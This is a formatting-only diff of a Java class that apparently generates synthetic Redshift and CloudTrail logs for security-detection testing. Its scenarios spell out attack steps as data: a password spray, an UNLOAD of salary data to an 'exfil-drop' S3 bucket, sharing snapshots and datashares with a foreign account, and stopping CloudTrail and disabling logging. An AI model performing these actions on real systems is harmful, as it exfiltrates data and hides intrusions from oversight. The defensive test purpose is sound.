@@ -36,8 +36,20 @@ final class Scenarios {
                 yield t;
             }
             case PASSWORD_SPRAY -> {
-                String[] users = {"admin", "root", "etl_loader", "dash_reader", "analyst_1", "analyst_2", "analyst_3",
-                    "postgres", "redshift", "test", "dbadmin", "awsuser"};
+                String[] users = {
+                    "admin",
+                    "root",
+                    "etl_loader",
+                    "dash_reader",
+                    "analyst_1",
+                    "analyst_2",
+                    "analyst_3",
+                    "postgres",
+                    "redshift",
+                    "test",
+                    "dbadmin",
+                    "awsuser"
+                };
                 for (String u : users) {
                     conn("authentication failure", t += 3_000, ATTACKER + "8", u, true, "psql");
                 }
@@ -71,22 +83,33 @@ final class Scenarios {
                 t = sql(t, LogGenerator.ADMIN, "alter user backdoor rename to svc_backup;");
                 yield sql(t, LogGenerator.ADMIN, "drop user svc_backup;");
             }
-            case UNLOAD_FOREIGN_BUCKET -> sql(t, "analyst_2", "unload ('select * from finance.salaries') to"
-                    + " 's3://exfil-drop-7731/dump_' iam_role 'arn:aws:iam::" + ACCT + ":role/RedshiftUnload';");
+            case UNLOAD_FOREIGN_BUCKET ->
+                sql(
+                        t,
+                        "analyst_2",
+                        "unload ('select * from finance.salaries') to"
+                                + " 's3://exfil-drop-7731/dump_' iam_role 'arn:aws:iam::" + ACCT
+                                + ":role/RedshiftUnload';");
             case DATASHARE_FOREIGN_ACCOUNT -> {
                 t = setup(t, "analyst_2", "create datashare salesshare;");
                 t = setup(t, "analyst_2", "alter datashare salesshare add schema finance;");
-                yield sql(t, "analyst_2", "grant usage on datashare salesshare to account '"
-                        + LogGenerator.FOREIGN_ACCOUNT + "';");
+                yield sql(
+                        t,
+                        "analyst_2",
+                        "grant usage on datashare salesshare to account '" + LogGenerator.FOREIGN_ACCOUNT + "';");
             }
             case CATALOG_RECON -> {
                 t = sql(t, "analyst_2", "select usename, usesuper from pg_user;");
                 t = sql(t, "analyst_2", "select * from svv_table_info order by size desc;");
                 yield sql(t, "analyst_2", "select * from pg_tables\nwhere schemaname not in ('pg_catalog');");
             }
-            case CREDENTIALS_IN_COPY -> sql(t, "etl_loader", "copy staging.orders from 's3://" + LogGenerator
-                    .ALLOWED_BUCKET + "/in/orders/' credentials 'aws_access_key_id=AKIAIOSFODNN7EXAMPLE;"
-                    + "aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY' csv;");
+            case CREDENTIALS_IN_COPY ->
+                sql(
+                        t,
+                        "etl_loader",
+                        "copy staging.orders from 's3://" + LogGenerator.ALLOWED_BUCKET
+                                + "/in/orders/' credentials 'aws_access_key_id=AKIAIOSFODNN7EXAMPLE;"
+                                + "aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY' csv;");
             case TERMINATE_SPREE -> {
                 for (int i = 0; i < 10; i++) {
                     t = sql(t, "analyst_2", "select pg_terminate_backend(" + (20_000 + i * 7) + ");");
@@ -104,40 +127,82 @@ final class Scenarios {
                 yield user(t, "svc_backup", "", "drop", 0, 0);
             }
             case DISABLE_LOGGING -> trail(t, "redshift", "DisableLogging", q("clusterIdentifier", cluster));
-            case ENABLE_LOGGING_FOREIGN_BUCKET -> trail(t, "redshift", "EnableLogging",
-                    q("clusterIdentifier", cluster) + "," + q("bucketName", "attacker-log-sink") + ","
-                            + q("s3KeyPrefix", "x/"));
-            case REQUIRE_SSL_OFF -> trail(t, "redshift", "ModifyClusterParameterGroup",
-                    q("parameterGroupName", "prod-params") + ",\"parameters\":[{" + q("parameterName", "require_ssl")
-                            + "," + q("parameterValue", "false") + "}]");
-            case ACTIVITY_LOGGING_OFF -> trail(t, "redshift", "ModifyClusterParameterGroup",
-                    q("parameterGroupName", "prod-params") + ",\"parameters\":[{"
-                            + q("parameterName", "enable_user_activity_logging") + "," + q("parameterValue", "false")
-                            + "}]");
-            case SNAPSHOT_SHARED_FOREIGN -> trail(t, "redshift", "AuthorizeSnapshotAccess",
-                    q("snapshotIdentifier", "prod-dw-manual-1") + "," + q("snapshotClusterIdentifier", cluster) + ","
-                            + q("accountWithRestoreAccess", LogGenerator.FOREIGN_ACCOUNT));
+            case ENABLE_LOGGING_FOREIGN_BUCKET ->
+                trail(
+                        t,
+                        "redshift",
+                        "EnableLogging",
+                        q("clusterIdentifier", cluster) + "," + q("bucketName", "attacker-log-sink") + ","
+                                + q("s3KeyPrefix", "x/"));
+            case REQUIRE_SSL_OFF ->
+                trail(
+                        t,
+                        "redshift",
+                        "ModifyClusterParameterGroup",
+                        q("parameterGroupName", "prod-params") + ",\"parameters\":[{"
+                                + q("parameterName", "require_ssl") + "," + q("parameterValue", "false") + "}]");
+            case ACTIVITY_LOGGING_OFF ->
+                trail(
+                        t,
+                        "redshift",
+                        "ModifyClusterParameterGroup",
+                        q("parameterGroupName", "prod-params") + ",\"parameters\":[{"
+                                + q("parameterName", "enable_user_activity_logging") + ","
+                                + q("parameterValue", "false")
+                                + "}]");
+            case SNAPSHOT_SHARED_FOREIGN ->
+                trail(
+                        t,
+                        "redshift",
+                        "AuthorizeSnapshotAccess",
+                        q("snapshotIdentifier", "prod-dw-manual-1") + "," + q("snapshotClusterIdentifier", cluster)
+                                + "," + q("accountWithRestoreAccess", LogGenerator.FOREIGN_ACCOUNT));
             // EEA data (REGION) copied to the US: what the default residency policy forbids.
-            case SNAPSHOT_COPY_FORBIDDEN_REGION -> trail(t, "redshift", "EnableSnapshotCopy",
-                    q("clusterIdentifier", cluster) + "," + q("destinationRegion", "us-east-1")
-                            + ",\"retentionPeriod\":7");
+            case SNAPSHOT_COPY_FORBIDDEN_REGION ->
+                trail(
+                        t,
+                        "redshift",
+                        "EnableSnapshotCopy",
+                        q("clusterIdentifier", cluster) + "," + q("destinationRegion", "us-east-1")
+                                + ",\"retentionPeriod\":7");
             case RETENTION_CUT_THEN_DELETE -> {
-                t = trail(t, "redshift", "ModifyClusterSnapshot", q("snapshotIdentifier", "prod-dw-manual-1")
-                        + ",\"manualSnapshotRetentionPeriod\":1,\"force\":true");
-                yield trail(t, "redshift", "DeleteClusterSnapshot", q("snapshotIdentifier", "prod-dw-manual-1")
-                        + "," + q("snapshotClusterIdentifier", cluster));
+                t = trail(
+                        t,
+                        "redshift",
+                        "ModifyClusterSnapshot",
+                        q("snapshotIdentifier", "prod-dw-manual-1")
+                                + ",\"manualSnapshotRetentionPeriod\":1,\"force\":true");
+                yield trail(
+                        t,
+                        "redshift",
+                        "DeleteClusterSnapshot",
+                        q("snapshotIdentifier", "prod-dw-manual-1") + "," + q("snapshotClusterIdentifier", cluster));
             }
-            case CLUSTER_MADE_PUBLIC -> trail(t, "redshift", "ModifyCluster", q("clusterIdentifier", cluster)
-                    + ",\"publiclyAccessible\":true");
-            case PORT_OPEN_TO_WORLD -> trail(t, "ec2", "AuthorizeSecurityGroupIngress",
-                    q("groupId", "sg-0abc1234") + ",\"ipPermissions\":{\"items\":[{\"ipProtocol\":\"tcp\","
-                            + "\"fromPort\":5439,\"toPort\":5439,\"ipRanges\":{\"items\":[{\"cidrIp\":\"0.0.0.0/0\"}]}}]}");
-            case MASTER_PASSWORD_RESET -> trail(t, "redshift", "ModifyCluster", q("clusterIdentifier", cluster)
-                    + "," + q("masterUserPassword", "HIDDEN_DUE_TO_SECURITY_REASONS"));
+            case CLUSTER_MADE_PUBLIC ->
+                trail(t, "redshift", "ModifyCluster", q("clusterIdentifier", cluster) + ",\"publiclyAccessible\":true");
+            case PORT_OPEN_TO_WORLD ->
+                trail(
+                        t,
+                        "ec2",
+                        "AuthorizeSecurityGroupIngress",
+                        q("groupId", "sg-0abc1234") + ",\"ipPermissions\":{\"items\":[{\"ipProtocol\":\"tcp\","
+                                + "\"fromPort\":5439,\"toPort\":5439,\"ipRanges\":{\"items\":[{\"cidrIp\":\"0.0.0.0/0\"}]}}]}");
+            case MASTER_PASSWORD_RESET ->
+                trail(
+                        t,
+                        "redshift",
+                        "ModifyCluster",
+                        q("clusterIdentifier", cluster) + ","
+                                + q("masterUserPassword", "HIDDEN_DUE_TO_SECURITY_REASONS"));
             case CLOUDTRAIL_STOPPED -> trail(t, "cloudtrail", "StopLogging", q("name", "org-trail"));
             case CLOUDTRAIL_DELETED -> trail(t, "cloudtrail", "DeleteTrail", q("name", "org-trail"));
-            case ADMIN_CREDENTIALS -> trail(t, "redshift", "GetClusterCredentials", q("clusterIdentifier", cluster)
-                    + "," + q("dbUser", LogGenerator.ADMIN) + "," + q("dbName", "dev") + ",\"autoCreate\":false");
+            case ADMIN_CREDENTIALS ->
+                trail(
+                        t,
+                        "redshift",
+                        "GetClusterCredentials",
+                        q("clusterIdentifier", cluster) + "," + q("dbUser", LogGenerator.ADMIN) + ","
+                                + q("dbName", "dev") + ",\"autoCreate\":false");
         };
     }
 
@@ -175,8 +240,7 @@ final class Scenarios {
         return t;
     }
 
-    private long user(long t, String user, String old, String action, int createdb, int superuser)
-            throws IOException {
+    private long user(long t, String user, String old, String action, int createdb, int superuser) throws IOException {
         t += 1_000;
         record(action + " " + user + " usesuper=" + superuser);
         g.userlog(f, t, user, old, action, createdb, superuser);
@@ -186,8 +250,15 @@ final class Scenarios {
     private long trail(long t, String service, String name, String request) throws IOException {
         t += 60_000;
         record(service + ":" + name + " " + request);
-        g.trail(f, t, service + ".amazonaws.com", name, "arn:aws:iam::" + ACCT + ":user/mallory", ATTACKER + "11",
-                request, null);
+        g.trail(
+                f,
+                t,
+                service + ".amazonaws.com",
+                name,
+                "arn:aws:iam::" + ACCT + ":user/mallory",
+                ATTACKER + "11",
+                request,
+                null);
         return t;
     }
 }
